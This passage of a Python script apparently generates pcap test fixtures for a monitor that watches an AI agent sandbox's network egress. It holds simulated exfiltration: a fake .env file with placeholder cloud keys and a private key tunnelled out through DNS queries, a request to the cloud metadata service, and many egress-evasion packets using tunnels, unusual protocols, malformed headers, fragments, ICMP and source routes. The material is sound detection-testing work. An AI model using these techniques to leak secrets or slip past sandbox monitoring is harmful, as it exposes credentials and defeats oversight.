    q3, r3 = link_pair(0x4023, "ng-sll2")
    q4, r4 = link_pair(0x4024, "ng-ipv4")
    q5, r5 = link_pair(0x4025, "ng-null")
    sll2 = lambda pkttype, src: CookedLinuxV2(proto=0x0800, ifindex=3, lladdrtype=1,
                                              pkttype=pkttype, lladdrlen=6,
                                              src=bytes.fromhex(src))
    t = [clk(250000)] + [clk(1500) for _ in range(11)]
    first = [  # interfaces: 0 Ethernet (us), 1 raw IP (ns), 2 SLL2 (2^-20 s), 3 802.11
        ("epb", 0, t[0], ether(mac_c, mac_r, ip4_udp(CLIENT4, DNS4, 35021, 53, q1, 0x4021))),
        ("epb", 1, t[1] * 1000, bytes(ip4_udp(CLIENT4, DNS4, 35022, 53, q2, 0x4022))),
        ("other", 4, struct.pack("<HH", 0, 0)),  # an empty name resolution block
        ("epb", 0, t[2], ether(mac_r, mac_c, ip4_udp(DNS4, CLIENT4, 53, 35021, r1, 0x4121))),
        ("epb", 1, t[3] * 1000, bytes(ip4_udp(DNS4, CLIENT4, 53, 35022, r2, 0x4122))),
        ("epb", 2, (t[4] // 1000000) << 20 | (t[4] % 1000000) * (1 << 20) // 1000000,
         bytes(sll2(4, "02000099000a0000") / ip4_udp(CLIENT4, DNS4, 35023, 53, q3, 0x4023))),
        ("epb", 3, t[5], bytes.fromhex("80000000ffffffffffff0200009900010200009900010000")),
        ("epb", 2, (t[6] // 1000000) << 20 | (t[6] % 1000000) * (1 << 20) // 1000000,
         bytes(sll2(0, "0200009900350000") / ip4_udp(DNS4, CLIENT4, 53, 35023, r3, 0x4123))),
    ]
    second = [  # interfaces: 0 IPv4 (linktype 228, ms), 1 NULL (us)
        ("epb", 0, t[7] // 1000, bytes(ip4_udp(CLIENT4, DNS4, 35024, 53, q4, 0x4024))),
        ("epb", 1, t[8], struct.pack(">I", 2) + bytes(ip4_udp(CLIENT4, DNS4, 35025, 53, q5, 0x4025))),
        ("epb", 0, t[9] // 1000, bytes(ip4_udp(DNS4, CLIENT4, 53, 35024, r4, 0x4124))),
        ("other", 5, struct.pack(">IIIHH", 0, 0, 0, 0, 0)),  # interface statistics
        ("epb", 1, t[10], struct.pack(">I", 2) + bytes(ip4_udp(DNS4, CLIENT4, 53, 35025, r5, 0x4125))),
    ]
    # dns_tcp.pcap's packets captured on two interfaces, each interface's in
    # a block of its own, as dumpcap writes them: the second copy of the
    # closed connection is that connection again (tshark: retransmissions),
    # so each DNS message is reported once
    with open(os.path.join(out, "dns_tcp.pcap"), "rb") as f:
        raw = f.read()
    copies, off = [], 24
    while off < len(raw):
        sec, usec, cl, _ = struct.unpack("<IIII", raw[off:off + 16])
        copies.append((sec * 1000000 + usec, raw[off + 16:off + 16 + cl]))
        off += 16 + cl
    write_pcapng_sections(os.path.join(out, "dup_blocks.pcapng"), [
        ("<", [(LINKTYPE_ETHERNET, "veth-a", None), (LINKTYPE_ETHERNET, "br0", None)],
         [("epb", i, ts, data) for i in (0, 1) for ts, data in copies])])

    write_pcapng_sections(os.path.join(out, "link_multi.pcapng"), [
        ("<", [(LINKTYPE_ETHERNET, "eth0", None), (LINKTYPE_RAW, "tun0", 9),
               (LINKTYPE_LINUX_SLL2, "any", 0x80 | 20), (105, "wlan0mon", 6)], first),
        (">", [(228, "ipip0", 3), (LINKTYPE_NULL, "lo0", 6)], second)])

# ---------------------------------------------------------------- IPv6


def gen_dns_ipv6(out):
    clk = Clock()
    T = "v6.example.test"
    q, r = exchange(0x5001, T, "AAAA", an=[rr(T, "AAAA", 300, rd_aaaa("2001:db8::6"))])
    hbh = IPv6ExtHdrHopByHop(options=[PadN(optdata=b"\0\0\0\0")])
    recs = [(clk(250000), ether(MAC_CLIENT, MAC_DNS, ip6_udp(CLIENT6, DNS6, 36001, 53, q, hbh))),
            (clk(1500), ether(MAC_DNS, MAC_CLIENT,
                              ip6_udp(DNS6, CLIENT6, 53, 36001, r,
                                      IPv6ExtHdrHopByHop(options=[PadN(optdata=b"\0\0\0\0")])
                                      / IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\0\0\0\0")]))))]
    q, r = exchange(0x5002, "plain." + T, "A", an=[rr("plain." + T, "A", 300, rd_a("192.0.2.6"))])
    recs += [(clk(250000), ether(MAC_CLIENT, MAC_DNS, ip6_udp(CLIENT6, DNS6, 36002, 53, q))),
             (clk(1500), ether(MAC_DNS, MAC_CLIENT, ip6_udp(DNS6, CLIENT6, 53, 36002, r)))]
    write_pcap(os.path.join(out, "dns_ipv6.pcap"), LINKTYPE_ETHERNET, recs)

# ---------------------------------------------------------------- fragments


def big_txt(id, name):
    chunks = [("%s-%02d-" % (name.split(".")[0], i)) + "f" * 90 for i in range(6)]
    return exchange(id, name, "TXT", an=[rr(name, "TXT", 60, rd_txt(chunks))])


def frag4(src, dst, sport, dport, data, ipid, pieces):
    """pieces: list of (start, end) byte ranges of the UDP datagram, starts multiple of 8."""
    dgram = bytes(IP(src=src, dst=dst, proto=17) / UDP(sport=sport, dport=dport) / Raw(data))[20:]
    out = []
    for start, end in pieces:
        end = min(end, len(dgram))
        mf = 1 if end < len(dgram) else 0
        out.append(IP(src=src, dst=dst, id=ipid, ttl=64, proto=17, flags=mf, frag=start // 8)
                   / Raw(dgram[start:end]))
    return out, len(dgram)


def gen_ip_frag(out):
    clk = Clock()
    recs = []
    sets = (("inorder", 0x6001, 37001, lambda n: [(0, 256), (256, 512), (512, n)], False),
            ("reversed", 0x6002, 37002, lambda n: [(0, 256), (256, 512), (512, n)], True),
            ("overlap", 0x6003, 37003, lambda n: [(0, 264), (256, 520), (512, n)], False))
    for label, id, sport, cut, rev in sets:
        name = label + ".frag.example.test"
        q, r = big_txt(id, name)
        recs.append((clk(250000), ether(MAC_CLIENT, MAC_DNS, ip4_udp(CLIENT4, DNS4, sport, 53, q, id))))
        n = len(r) + 8
        frags, _ = frag4(DNS4, CLIENT4, 53, sport, r, id + 0x100, cut(n))
        if rev:
            frags.reverse()
        for f in frags:
            recs.append((clk(300), ether(MAC_DNS, MAC_CLIENT, f)))
    # IPv6 fragments (fragment header, 2 pieces)
    name = "v6.frag.example.test"
    q, r = big_txt(0x6004, name)
    recs.append((clk(250000), ether(MAC_CLIENT, MAC_DNS, ip6_udp(CLIENT6, DNS6, 37004, 53, q))))
    dgram = bytes(IPv6(src=DNS6, dst=CLIENT6) / UDP(sport=53, dport=37004) / Raw(r))[40:]
    for start, end in ((0, 304), (304, len(dgram))):
        m = 1 if end < len(dgram) else 0
        p = (IPv6(src=DNS6, dst=CLIENT6, hlim=64, nh=44)
             / IPv6ExtHdrFragment(nh=17, offset=start // 8, m=m, id=0x6004)
             / Raw(dgram[start:end]))
        recs.append((clk(300), ether(MAC_DNS, MAC_CLIENT, p)))
    write_pcap(os.path.join(out, "ip_frag.pcap"), LINKTYPE_ETHERNET, recs)

# ---------------------------------------------------------------- padding


def gen_ether_padding(out):
    clk = Clock()
    q = dns_msg(0x7001, qd=[(".", "NS")])              # 17 bytes: frame of 59
    f = ether(MAC_CLIENT, MAC_DNS, ip4_udp(CLIENT4, DNS4, 38001, 53, q, 0x7001))
    assert len(f) == 59, len(f)
    recs = [(clk(250000), f + b"\xaa")]
    q = dns_msg(0x7002, qd=[(".", "NS")])
    f = ether(MAC_CLIENT, MAC_DNS, ip4_udp(CLIENT4, DNS4, 38002, 53, q, 0x7002))
    recs.append((clk(250000), f + b"\xaa" + b"\xde\xad\xbe\xef"))  # padding + a trailer
    # UDP length shorter than the IP payload: 16 bytes of junk inside IP, after UDP.
    _, r = exchange(0x7002, ".", "NS", an=[rr(".", "NS", 518400, rd_name("a.root.example.test"))])
    tail = b"\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\xc0\x00\x02\x63\xc0\x0c"
    ipb = IP(src=DNS4, dst=CLIENT4, id=0x7102, ttl=64, flags="DF", proto=17) / Raw(
        bytes(IP(src=DNS4, dst=CLIENT4, proto=17) / UDP(sport=53, dport=38002) / Raw(r))[20:] + tail)
    recs.append((clk(1500), ether(MAC_DNS, MAC_CLIENT, ipb)))
    write_pcap(os.path.join(out, "ether_padding.pcap"), LINKTYPE_ETHERNET, recs)

# ---------------------------------------------------------------- demo


def client_hello(sni, alpn=("h2", "http/1.1")):
    def ext(t, body):
        return struct.pack("!HH", t, len(body)) + body
    name = sni.encode()
    exts = ext(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name)
    exts += ext(11, b"\x03\x00\x01\x02")
    exts += ext(10, b"\x00\x08\x00\x1d\x00\x17\x00\x18\x00\x19")
    exts += ext(35, b"")
    al = b"".join(bytes([len(a)]) + a.encode() for a in alpn)
    exts += ext(16, struct.pack("!H", len(al)) + al)
    exts += ext(22, b"") + ext(23, b"")
    exts += ext(13, b"\x00\x0e\x04\x03\x05\x03\x06\x03\x08\x04\x08\x05\x08\x06\x04\x01")
    exts += ext(43, b"\x04\x03\x04\x03\x03")
    exts += ext(45, b"\x01\x01")
    ks = hashlib.sha256(b"demo key share").digest()
    exts += ext(51, struct.pack("!HHH", 36, 0x001D, 32) + ks)
    rnd = hashlib.sha256(b"demo client random").digest()
    sid = hashlib.sha256(b"demo session id").digest()
    suites = b"\x13\x01\x13\x02\x13\x03\xc0\x2b\xc0\x2f\xc0\x2c\xc0\x30\xcc\xa9\xcc\xa8"
    body = b"\x03\x03" + rnd + bytes([32]) + sid + struct.pack("!H", len(suites)) + suites
    body += b"\x01\x00" + struct.pack("!H", len(exts)) + exts
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def gen_demo(out):
    recs = []
    clk = Clock()
    ipid = [0x9000]

    def nid():
        ipid[0] += 1
        return ipid[0]

    def udp_q(ts, sport, data):
        recs.append((ts, ether(MAC_CLIENT, MAC_DNS, ip4_udp(CLIENT4, DNS4, sport, 53, data, nid()))))

    def udp_r(ts, sport, data):
        recs.append((ts, ether(MAC_DNS, MAC_CLIENT, ip4_udp(DNS4, CLIENT4, 53, sport, data, nid()))))

    lookups = [("pypi.example.org", "192.0.2.10", "2001:db8:10::10", None),
               ("files.example.org", "192.0.2.11", "2001:db8:10::11", "cdn.example.net"),
               ("api.example.com", "192.0.2.80", "2001:db8:80::80", None),
               ("github.example.com", "192.0.2.20", None, None),
               ("objects.example.com", "192.0.2.21", "2001:db8:21::21", "objects-cdn.example.net"),
               ("registry.example.net", "198.51.100.30", None, None),
               ("docs.example.org", "198.51.100.31", "2001:db8:31::31", None),
               ("time.example.net", "198.51.100.123", None, None),
               ("repo.example.com", "192.0.2.40", "2001:db8:40::40", "repo-edge.example.net"),
               ("ci.example.test", "192.0.2.41", None, None),
               ("telemetry.example.com", "198.51.100.50", None, None),
               ("mirror.example.org", "198.51.100.60", "2001:db8:60::60", None)]
    t = BASE_US
    sport = 41000
    dnsid = 0xA000
    for i, (name, a4, a6, cname) in enumerate(lookups):
        for qt, addr in (("A", a4), ("AAAA", a6)):
            dnsid += 1
            sport += 1
            an = []
            owner = name
            if cname:
                an.append(rr(name, "CNAME", 300, rd_name(cname)))
                owner = cname
            if addr:
                an.append(rr(owner, qt, 60, rd_a(addr) if qt == "A" else rd_aaaa(addr)))
            q, r = exchange(dnsid, name, qt, an=an)
            udp_q(t, sport, q)
            udp_r(t + 1800 + 97 * i, sport, r)
            t += 3100
        t += 1700000 + 13 * i * 1000

    # tunnel burst: base32 of a fake exfiltrated file, TXT and NULL alternately
    secret = ("# agent workspace .env (fake, for the demo)\n"
              "AWS_ACCESS_KEY_ID=AKIAEXAMPLEDEMO0000\n"
              "AWS_SECRET_ACCESS_KEY=example/demo/secret/not/real/0000000000\n"
              "DATABASE_URL=postgres://agent:hunter2@db.example.test:5432/prod\n"
              "OPENAI_API_KEY=sk-example-demo-0000000000000000000000000000\n")
    secret += "-----BEGIN OPENSSH PRIVATE KEY----- (fake, for the demo)\n"
    for i in range(24):
        secret += base64.b64encode(hashlib.sha256(b"demo key %d" % i).digest()
                                   + hashlib.sha256(b"demo key %d'" % i).digest()[:16]).decode() + "\n"
    secret += "-----END OPENSSH PRIVATE KEY-----\n"
    data = secret.encode()
    chunk = 24
    tb = BASE_US + 14000000
    for n, off in enumerate(range(0, len(data), chunk)):
        enc = base64.b32encode(data[off:off + chunk]).decode().rstrip("=").lower()
        qname = "%s.%04x.t.example-tunnel.test" % (enc, n)
        qt = "TXT" if n % 2 == 0 else "NULL"
        dnsid += 1
        sport += 1
        if qt == "TXT":
            ans = rr(qname, "TXT", 0, rd_txt([base64.b32encode(struct.pack("!HI", n, off)).decode().rstrip("=").lower()]))
        else:
            ans = rr(qname, "NULL", 0, [b"\x00" + struct.pack("!HI", n, off) + b"ack"])
        q, r = exchange(dnsid, qname, qt, an=[ans], q_ar=[opt_rr(4096)], ar=[opt_rr(4096)])
        ts = tb + n * 150000 + (n * 7919) % 40000
        udp_q(ts, sport, q)
        udp_r(ts + 2100 + (n * 31) % 700, sport, r)

    # HTTP GET to the metadata service
    hc = Clock(BASE_US + 9000000)
    c = TcpConn(hc, CLIENT4, "169.254.169.254", 45678, 80, 0x3A000000, 0x7B000000, ipid=0xB000,
                cmac=MAC_CLIENT, smac=MAC_GW)
    recs += c.handshake(step=0)
    req = (b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n"
           b"User-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n")
    recs.append(c.c_send(req, step=150))
    recs.append(c.s_ack(step=400))
    body = b"ami-id\nami-launch-index\nhostname\niam/\ninstance-id\nlocal-ipv4\n"
    resp = (b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n"
            b"Server: EC2ws\r\n\r\n" % len(body)) + body
    recs.append(c.s_send(resp, step=900))
    recs.append(c.c_ack(step=100))
    recs += c.close()

    # TLS ClientHello to api.example.com (192.0.2.80)
    tc = Clock(BASE_US + 10500000)
    c = TcpConn(tc, CLIENT4, "192.0.2.80", 45690, 443, 0x11000000, 0x22000000, ipid=0xC000,
                cmac=MAC_CLIENT, smac=MAC_GW)
    recs += c.handshake(step=0)
    recs.append(c.c_send(client_hello("api.example.com"), step=300))
    recs.append(c.s_ack(step=9000))
    recs += c.close()

    # ping
    pc = Clock(BASE_US + 12000000)
    for seq in range(1, 4):
        payload = struct.pack("<QQ", 1795428000 + seq, 0) + bytes(range(0x10, 0x38))[:40]
        t0 = pc(0 if seq == 1 else 1000000)
        req = IP(src=CLIENT4, dst="198.51.100.1", id=0xD000 + seq, ttl=64, flags="DF") / \
            ICMP(type=8, id=0x4D2, seq=seq) / Raw(payload)
        rep = IP(src="198.51.100.1", dst=CLIENT4, id=0xE000 + seq, ttl=57) / \
            ICMP(type=0, id=0x4D2, seq=seq) / Raw(payload)
        recs.append((t0, ether(MAC_CLIENT, MAC_GW, req)))
        recs.append((t0 + 11400 + seq * 37, ether(MAC_GW, MAC_CLIENT, rep)))

    recs.sort(key=lambda r: r[0])   # stable: equal stamps keep their order
    write_pcap(os.path.join(out, "demo.pcap"), LINKTYPE_ETHERNET, recs)


# ---------------------------------------------------------------- egress paths

OUTSIDE = "198.51.100.%d"


def gen_egress_paths(out):
    from scapy.layers.l2 import GRE  # noqa: E402
    from scapy.layers.vxlan import VXLAN  # noqa: E402
    from scapy.contrib.geneve import GENEVE  # noqa: E402
    clk = Clock()
    recs = []

    def send(pkt, step=100000):
        recs.append((clk(step), ether(MAC_CLIENT, MAC_GW, pkt)))

    q = dns_msg(0x5101, qd=[("leak.example.com", "A")])
    inner_dns = IP(src=CLIENT4, dst=DNS4, id=0x5101, ttl=64) / UDP(sport=41001, dport=53) / Raw(q)
    inner_syn = IP(src=CLIENT4, dst="10.99.0.2", id=0x5102, ttl=64) / TCP(
        sport=41002, dport=8080, flags="S", seq=1000)
    # a tunnel's carrier to a host outside: judged as the hop on the wire
    send(IP(src=CLIENT4, dst=OUTSIDE % 20, id=0x5201) / UDP(sport=42001, dport=4789) /
         VXLAN(vni=7) / Ether(src=MAC_CLIENT, dst=MAC_DNS) / inner_dns)
    send(IP(src=CLIENT4, dst=OUTSIDE % 21, id=0x5202) / UDP(sport=42002, dport=6081) /
         GENEVE(proto=0x0800, vni=7) / inner_dns)
    send(IP(src=CLIENT4, dst=OUTSIDE % 22, id=0x5203) / GRE(proto=0x0800) / inner_syn)
    send(IP(src=CLIENT4, dst=OUTSIDE % 23, id=0x5204, proto=4) / inner_syn)
    broken = bytearray(bytes(inner_dns))
    broken[0] = 0x43  # IHL 3: a broken inner header
    send(IP(src=CLIENT4, dst=OUTSIDE % 24, id=0x5205) / UDP(sport=42005, dport=4789) /
         VXLAN(vni=7) / Ether(src=MAC_CLIENT, dst=MAC_DNS) / Raw(bytes(broken)))
    # other IP protocols
    sctp_init = struct.pack(">HHII", 42006, 9899, 0, 0) + bytes.fromhex(
        "010000140000000100010000000a000a00000001")
    send(IP(src=CLIENT4, dst=OUTSIDE % 25, id=0x5206, proto=132) / Raw(sctp_init))
    send(IP(src=CLIENT4, dst=OUTSIDE % 26, id=0x5207, proto=50) / Raw(b"\x00\x00\x10\x01" + b"\x00" * 4 + b"secret"))
    send(IP(src=CLIENT4, dst=OUTSIDE % 27, id=0x5208, proto=253) / Raw(b"exfil over protocol 253"))
    # transport headers that lie
    udp = bytearray(bytes(UDP(sport=42009, dport=9999) / Raw(b"lying length")))
    struct.pack_into(">H", udp, 4, 200)
    send(IP(src=CLIENT4, dst=OUTSIDE % 28, id=0x5209, proto=17) / Raw(bytes(udp)))
    udp = bytearray(bytes(UDP(sport=42010, dport=53) / Raw(b"short length")))
    struct.pack_into(">H", udp, 4, 7)
    send(IP(src=CLIENT4, dst=OUTSIDE % 29, id=0x520a, proto=17) / Raw(bytes(udp)))
    tcp = bytearray(bytes(TCP(sport=42011, dport=443, flags="S", seq=7) / Raw(b"data")))
    tcp[12] = 0x40  # data offset 4
    send(IP(src=CLIENT4, dst=OUTSIDE % 30, id=0x520b, proto=6) / Raw(bytes(tcp)))
    send(IPv6(src=CLIENT6, dst="2001:db8::31", nh=132) / Raw(sctp_init))
    # IPv6 whose destination-options header runs past the payload: the fixed
    # header is whole, so it went out
    send(IPv6(src=CLIENT6, dst="2001:db8::39", nh=60) /
         Raw(b"\x11\x05" + b"\x01\x04\x00\x00\x00\x00" + b"exfil!"))
    # quiet: an underlay tunnel between two hosts outside the sandbox, IGMP to
    # its multicast group, SCTP inside the sandbox, a broken header to the proxy
    send(IP(src="192.0.2.1", dst="192.0.2.2", id=0x520c) / GRE(proto=0x0800) / inner_dns)
    send(IP(src=CLIENT4, dst="224.0.0.22", id=0x520d, ttl=1, proto=2) /
         Raw(bytes.fromhex("2200f9020000000104000000e00000fb")))
    send(IP(src=CLIENT4, dst="10.99.0.5", id=0x520e, proto=132) / Raw(sctp_init))
    tcp = bytearray(bytes(TCP(sport=42015, dport=8080, flags="S", seq=9)))
    tcp[12] = 0x30
    send(IP(src=CLIENT4, dst="10.99.0.2", id=0x520f, proto=6) / Raw(bytes(tcp)))
    # fragments that never make a whole datagram: judged when given up (here at
    # the end of the run: the capture is shorter than the 30 s reassembly timeout)
    udp = bytes(UDP(sport=42016, dport=9999, len=8 + 64, chksum=0) / Raw(b"f" * 64))
    send(IP(src=CLIENT4, dst=OUTSIDE % 32, id=0x5210, flags="MF", frag=0, proto=17) /
         Raw(udp[:32]))
    send(IP(src=CLIENT4, dst=OUTSIDE % 33, id=0x5211, flags="MF", frag=2, proto=253) /
         Raw(b"m" * 16))
    send(IP(src=CLIENT4, dst=OUTSIDE % 34, id=0x5212, flags="MF", frag=0, proto=17) /
         Raw(udp[:20]))
    # a tunnel whose inner packet is a fragment held for reassembly: its carrier
    dns_udp = bytes(inner_dns)[20:]
    send(IP(src=CLIENT4, dst=OUTSIDE % 35, id=0x5215) / UDP(sport=42017, dport=4789) /
         VXLAN(vni=7) / Ether(src=MAC_CLIENT, dst=MAC_DNS) /
         IP(src=CLIENT4, dst=DNS4, id=0x5216, flags="MF", frag=0, proto=17) / Raw(dns_udp[:16]))
    # ICMP that is not an echo: a timestamp request, a type of no known kind
    # carrying data; quiet: a port unreachable (an answer)
    # (scapy fills the three timestamps from the clock unless told; these
    # are the committed capture's)
    send(IP(src=CLIENT4, dst=OUTSIDE % 36, id=0x5217) /
         ICMP(type=13, id=7, seq=1, ts_ori=86099749, ts_rx=86099749, ts_tx=86099749) /
         Raw(b"\x00" * 12))
    send(IP(src=CLIENT4, dst=OUTSIDE % 37, id=0x5218) / ICMP(type=200, code=0) /
         Raw(b"exfil in an icmp type 200"))
    send(IP(src=CLIENT4, dst=OUTSIDE % 38, id=0x5219) / ICMP(type=3, code=3) /
         Raw(bytes(IP(src=OUTSIDE % 38, dst=CLIENT4) / UDP(sport=5000, dport=5001))[:28]))
    # quiet: DNS to the resolver in two fragments (whole: a DNS event), and a
    # lone middle fragment to the resolver (no ports: allowed by its address)
    q = dns_msg(0x5102, qd=[("frag.example.com", "A")])
    udp = bytes(UDP(sport=41003, dport=53, len=8 + len(q), chksum=0) / Raw(q))
    send(IP(src=CLIENT4, dst=DNS4, id=0x5213, flags="MF", frag=0, proto=17) / Raw(udp[:16]))
    send(IP(src=CLIENT4, dst=DNS4, id=0x5213, frag=2, proto=17) / Raw(udp[16:]), 1000)
    send(IP(src=CLIENT4, dst=DNS4, id=0x5214, flags="MF", frag=4, proto=17) / Raw(b"z" * 8))
    # source routes that end outside: a SYN for the proxy whose loose source
    # route names a host outside last, and DNS for the resolver (IPv6, in
    # the sandbox's range) through a segment routing header whose last
    # segment is outside; quiet: a route whose hops are all taken, and a
    # strict route that ends at the resolver
    send(IP(src=CLIENT4, dst="10.99.0.2", id=0x521a,
            options=[IPOption_LSRR(pointer=4, routers=[OUTSIDE % 40])]) /
         TCP(sport=42020, dport=8080, flags="S", seq=11))
    send(IPv6(src=CLIENT6, dst=DNS6) /
         IPv6ExtHdrSegmentRouting(addresses=["2001:db8::41", DNS6], segleft=1) /
         UDP(sport=42021, dport=53) / Raw(dns_msg(0x5103, qd=[("route.example.com", "A")])))
    send(IP(src=CLIENT4, dst="10.99.0.2", id=0x521b,
            options=[IPOption_LSRR(pointer=8, routers=[OUTSIDE % 42])]) /
         TCP(sport=42022, dport=8080, flags="S", seq=12))
    send(IP(src=CLIENT4, dst="10.99.0.2", id=0x521c,
            options=[IPOption_SSRR(pointer=4, routers=[DNS4])]) /
         UDP(sport=42023, dport=53) / Raw(dns_msg(0x5104, qd=[("ok.example.com", "A")])))
    write_pcap(os.path.join(out, "egress_paths.pcap"), LINKTYPE_ETHERNET, recs)


# ---------------------------------------------------------------- proxyproto


def gen_proxyproto(out):
    """proxyproto.pcap: HTTP requests and TLS ClientHellos behind a PROXY
    protocol header (HAProxy's v1 line, v2 binary) at the start of the
    client's stream, as nginx `listen ... proxy_protocol` and HAProxy
    `accept-proxy` take them, from the agent 10.99.0.10 to 10.99.0.80:
    (1) v1 TCP4 then a GET, with its 200; (2) v2 PROXY TCP4 with a TLV then
    a GET; (3) v1 then a ClientHello; (4) v2 then a ClientHello; (5) v1 TCP6
    alone in its segment, the GET in the next; (6) v2 LOCAL cut inside its
    fixed part, the ClientHello in three segments; (7) PROXY UNKNOWN then a
    GET; and (8) a header the specification refuses (port 65536), which is
    no header: the GET behind it is not read (a server refuses the
    connection)."""
    clk = Clock(BASE_US + 14400 * 1000000)
    srv = "10.99.0.80"
    ok = b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n"
    sig = b"\r\n\r\n\x00\r\nQUIT\n"

    def get(host):
        return b"GET /pp HTTP/1.1\r\nHost: %s\r\nUser-Agent: curl/7.88.1\r\n\r\n" % host

    def v1(sport, dport):
        return b"PROXY TCP4 10.99.0.10 %s %d %d\r\n" % (srv.encode(), sport, dport)

    def v2(cmd, fam, body):
        return sig + bytes([0x20 | cmd, fam]) + struct.pack("!H", len(body)) + body

    def v2_inet(sport, dport):
        addrs = socket.inet_aton("10.99.0.10") + socket.inet_aton(srv)
        tlv = b"\x02" + struct.pack("!H", 13) + b"pp.example.test"[:13]
        return v2(1, 0x11, addrs + struct.pack("!HH", sport, dport) + tlv)

    recs = []

    def conn(n, dport, pieces, resp=None):
        sport = 43000 + n
        c = TcpConn(clk, CLIENT4, srv, sport, dport, 200000 * n, 700000 * n,
                    ipid=0x7000 + 0x100 * n, smac=MAC_GW)
        recs.extend(c.handshake())
        for p in pieces(sport, dport):
            recs.append(c.c_send(p, step=300))
        if resp:
            recs.append(c.s_send(resp, step=500))
        else:
            recs.append(c.s_ack())
        recs.extend(c.close())

    conn(1, 80, lambda s, d: [v1(s, d) + get(b"v1.hidden.example")], ok)
    conn(2, 80, lambda s, d: [v2_inet(s, d) + get(b"v2.hidden.example")], ok)
    conn(3, 443, lambda s, d: [v1(s, d) + client_hello("v1.tls.hidden.example")])
    conn(4, 443, lambda s, d: [v2_inet(s, d) + client_hello("v2.tls.hidden.example")])
    conn(5, 80, lambda s, d: [b"PROXY TCP6 2001:db8::10 2001:db8::80 %d %d\r\n" % (s, d),
                              get(b"v1-tcp6.hidden.example")], ok)
    hello = v2(0, 0x00, b"") + client_hello("local.tls.hidden.example")
    conn(6, 443, lambda s, d: [hello[:9], hello[9:14], hello[14:200], hello[200:]])
    conn(7, 80, lambda s, d: [b"PROXY UNKNOWN\r\n" + get(b"unknown.hidden.example")], ok)
    conn(8, 80, lambda s, d: [b"PROXY TCP4 10.99.0.10 10.99.0.80 65536 80\r\n" +
                              get(b"refused.hidden.example")],
         b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
    write_pcap(os.path.join(out, "proxyproto.pcap"), LINKTYPE_ETHERNET, recs)
# ---------------------------------------------------------------- dns_proxyproto


def gen_dns_proxyproto(out):
    """dns_proxyproto.pcap: DNS behind a PROXY protocol header, as the DNS
    servers that take one read it: over TCP once at the stream's start,
    before the first length prefix (v2: dnsdist, unbound's
    proxy-protocol-port, PowerDNS, BIND, Knot Resolver, behind HAProxy's
    send-proxy-v2; v1 and v2: CoreDNS's proxyproto, behind send-proxy), and
    over UDP a v2 header before each message (dnsdist to its backends).
    (1) TCP, v2 PROXY TCP4 and two queries in one segment, two answers;
    (2) TCP, v1 alone in its segment, then a query; (3) TCP, v2 LOCAL cut
    inside its signature, the query in the next segment; (4) UDP, v2 then a
    query, the answer plain; (5) a ClientHello behind a v2 header on port
    53 (DNS over TLS on the DNS port): left to the TLS analyzer. Before the
    fix (1)-(4) gave malformed messages or nothing."""
    clk = Clock(BASE_US + 15000 * 1000000)
    sig = b"\r\n\r\n\x00\r\nQUIT\n"
    T = "pp.dns.example.test"

    def v2(cmd, fam, body):
        return sig + bytes([0x20 | cmd, fam]) + struct.pack("!H", len(body)) + body

    def v2_inet(sport, dport):
        addrs = socket.inet_aton("10.99.0.10") + socket.inet_aton(DNS4)
        return v2(1, 0x11, addrs + struct.pack("!HH", sport, dport))

    q1, r1 = exchange(0x3101, "v2-tcp." + T, "A", an=[rr("v2-tcp." + T, "A", 60, rd_a("192.0.2.31"))])
    q2, r2 = exchange(0x3102, "v2-tcp-second." + T, "AAAA")
    q3, r3 = exchange(0x3103, "v1-tcp." + T, "TXT", an=[rr("v1-tcp." + T, "TXT", 60, rd_txt(["pp v1"]))])
    q4, r4 = exchange(0x3104, "local-tcp." + T, "A", rcode=3)
    q5, r5 = exchange(0x3105, "v2-udp." + T, "A", an=[rr("v2-udp." + T, "A", 60, rd_a("192.0.2.35"))])
    recs = []

    c = TcpConn(clk, CLIENT4, DNS4, 44001, 53, 1000, 5000)
    recs += c.handshake()
    recs.append(c.c_send(v2_inet(44001, 53) + lp(q1) + lp(q2)))
    recs.append(c.s_send(lp(r1) + lp(r2), step=900))
    recs.append(c.c_ack())
    recs += c.close()

    c = TcpConn(clk, CLIENT4, DNS4, 44002, 53, 2000, 6000)
    recs += c.handshake()
    recs.append(c.c_send(b"PROXY TCP4 10.99.0.10 %s 44002 53\r\n" % DNS4.encode()))
    recs.append(c.s_ack())
    recs.append(c.c_send(lp(q3), step=300))
    recs.append(c.s_send(lp(r3), step=900))
    recs.append(c.c_ack())
    recs += c.close()

    c = TcpConn(clk, CLIENT4, DNS4, 44003, 53, 3000, 7000)
    recs += c.handshake()
    h = v2(0, 0x00, b"")
    recs.append(c.c_send(h[:7]))
    recs.append(c.c_send(h[7:] + lp(q4), step=300))
    recs.append(c.s_send(lp(r4), step=900))
    recs.append(c.c_ack())
    recs += c.close()

    u = UdpPair(clk, ipid=0x3100)
    recs.append(u.q(44004, v2_inet(44004, 53) + q5))
    recs.append(u.r(44004, r5))

    c = TcpConn(clk, CLIENT4, DNS4, 44005, 53, 4000, 8000)
    recs += c.handshake()
    recs.append(c.c_send(v2_inet(44005, 53) + client_hello("dot.behind.proxy.example")))
    recs.append(c.s_ack())
    recs += c.close()
    write_pcap(os.path.join(out, "dns_proxyproto.pcap"), LINKTYPE_ETHERNET, recs)
# ---------------------------------------------------------------- h2c_prior


def gen_h2c_prior(out):
    """HTTP/2 in cleartext with prior knowledge (what `curl
    --http2-prior-knowledge` and plaintext gRPC send): the agent asks the
    metadata service for its credentials over h2c, the second request's
    :authority taken from HPACK's dynamic table, its HEADERS frame split
    over two segments; then a gRPC call whose HEADERS is PADDED with
    PRIORITY and continued by a CONTINUATION, answered with a response and
    trailers (no event). HPACK by python3-hpack (Huffman-coded, indexed),
    imported here so that the other fixtures do not need it."""
    from hpack import Encoder

    def frame(ftype, flags, sid, payload):
        return struct.pack("!I", len(payload))[1:] + bytes([ftype, flags]) + \
            struct.pack("!I", sid) + payload

    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
